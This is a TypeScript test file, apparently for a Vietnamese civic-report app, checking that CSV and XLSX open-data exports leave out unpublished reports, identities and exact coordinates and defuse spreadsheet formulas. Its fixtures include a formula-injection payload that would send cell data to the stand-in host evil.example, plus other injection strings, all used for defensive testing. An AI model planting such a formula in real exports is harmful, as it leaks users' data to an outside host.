/**
 * Open data: anyone downloads the published reports as CSV and XLSX; never an unpublished
 * report, an identity or an exact position; CSV cells cannot run as formulas; XLSX dates are
 * real dates.
 */
import { beforeAll, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { forEachDb } from '../support/db';
import { actorFor, seedDemo } from '../support/demo';
import { createTestReport } from '../support/reports-factory';
import { setPublic } from '../../src/lib/server/reports/public/public.service';
import { reportQuerySchema } from '../../src/lib/server/reports/public/public.schema';
import { csvCell, openDataCsv, openDataXlsx } from '../../src/lib/server/public/open-data.service';
import { todayVn } from '../../src/lib/shared/format';

const SECRET = { name: 'Vàng A Sùng', phone: '0977000111', email: 'sung@example.vn' };
const FORMULA = '=HYPERLINK("http://evil.example/?x="&A2;"Xem ảnh")';

it.each([
  ['=SUM(1+1)', "'=SUM(1+1)"],
  ['@cmd', "'@cmd"],
  ['+1', "'+1"],
  ['-1+2', "'-1+2"],
  ['bình thường', 'bình thường'],
  ['có "ngoặc", phẩy', '"có ""ngoặc"", phẩy"']
])('CSV cell %s → %s', (input, expected) => {
  expect(csvCell(input)).toBe(expected);
});

forEachDb('open data', (ctx) => {
  let published = '';

  beforeAll(async () => {
    await seedDemo(ctx.db);
    const officer = await actorFor(ctx.db, 'canbo.doanket');
    published = (
      await createTestReport(ctx.db, { identity: SECRET, description: FORMULA, lat: 22.43317, lon: 103.40123 })
    ).id;
    await createTestReport(ctx.db, { description: 'Chưa công khai dữ liệu mở' });
    await setPublic(ctx.db, officer, published, true);
  });

  const query = reportQuerySchema.parse({});

  it('CSV: published reports only, formula defused, no identity or exact point', async () => {
    const csv = await openDataCsv(ctx.db, query);
    expect(csv.startsWith('\uFEFF')).toBe(true);
    const line = csv.split('\r\n').find((l) => l.startsWith(published))!;
    expect(line).toContain(`"'=HYPERLINK(`);
    expect(csv).not.toContain('Chưa công khai dữ liệu mở');
    for (const secret of [SECRET.name, SECRET.phone, SECRET.email, '22.43317', '103.40123'])
      expect(csv).not.toContain(secret);
  });

  it('XLSX: the same rows, dates as real dates, text never a formula', async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await openDataXlsx(ctx.db, query)) as unknown as ArrayBuffer);
    const ws = wb.worksheets[0];
    const row = ws.getRows(2, ws.rowCount - 1)!.find((r) => r.getCell(1).value === published)!;
    const created = row.getCell(2).value;
    expect(created).toBeInstanceOf(Date);
    expect((created as Date).toISOString().slice(0, 10)).toBe(todayVn());
    expect(row.getCell(2).numFmt).toBe('dd/mm/yyyy');
    expect(row.getCell(11).value).toBe(FORMULA);
    expect(row.getCell(11).formula).toBeUndefined();
    expect(typeof row.getCell(9).value).toBe('number');
    expect(row.getCell(9).value).not.toBe(22.43317);
    const all = JSON.stringify(ws.getSheetValues());
    expect(all).not.toContain('Chưa công khai dữ liệu mở');
    expect(all).not.toContain(SECRET.name);
  });
});
